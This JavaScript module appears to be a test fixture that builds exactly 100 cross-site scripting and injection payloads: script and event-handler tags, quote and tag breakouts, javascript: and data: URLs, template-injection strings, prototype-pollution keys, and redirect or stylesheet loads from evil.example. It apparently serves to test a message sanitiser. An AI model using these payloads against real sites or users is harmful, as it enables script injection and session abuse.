// SPDX-License-Identifier: MPL-2.0
// A hundred ways to smuggle a script into a page through words. Each would call own(), or open a dialog, where it ran.
const RUN = 'own()';
const TAGS = [
  `<script>${RUN}</script>`, `<img src=x onerror=${RUN}>`, `<svg onload=${RUN}>`, `<svg/onload=${RUN}//`, `<body onload=${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>">`, `<iframe src="javascript:parent.${RUN}">`, `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`, `<textarea autofocus onfocus=${RUN}>`, `<details open ontoggle=${RUN}>`, `<video><source onerror=${RUN}>`,
  `<audio src=x onerror=${RUN}>`, `<marquee onstart=${RUN}>`, `<object data="javascript:${RUN}">`, `<embed src="javascript:${RUN}">`,
  `<a href="javascript:${RUN}">тут</a>`, `<math><a xlink:href="javascript:${RUN}">x`, `<form action="javascript:${RUN}"><button>x`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`, `<base href="//evil.example/">`, `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>@import '//evil.example/x.css';</style>`, `<template><script>${RUN}</script></template>`, `<noscript><img src=x onerror=${RUN}></noscript>`,
];
const BREAKS = ['"', "'", '">', "'>", '</title>', '</textarea>', '</script>', '-->', ']]>', '`'];
const TRICKS = [
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `java\tscript:${RUN}`, ` javascript:${RUN}`, `javascript://%0a${RUN}`, `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`, '{{constructor.constructor("own()")()}}', '${own()}', '<%= own() %>', '#{own()}', '__proto__', 'constructor', 'dangerouslySetInnerHTML',
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${RUN}>"}}`, `{"type":"script","props":{}}`, '../../api/logout', '//evil.example/x', '/\\evil.example',
  '#/welcome/x', 'a\u202Egnp.exe', '\u0000<script>own()</script>', '&lt;script&gt;own()&lt;/script&gt;', '&#60;img src=x onerror=own()&#62;', '\u2028own()',
];

export const PAYLOADS = [
  ...TAGS,
  ...BREAKS.flatMap((end) => TAGS.slice(0, 5).map((tag) => end + tag)),
  ...TRICKS,
];

/* All of them, in messages as long as a citizen may write. */
export const mouthfuls = () => [0, 25, 50, 75].map((from) => PAYLOADS.slice(from, from + 25).join('\n'));

if (PAYLOADS.length !== 100) throw new Error(`${PAYLOADS.length} payloads, not 100`);
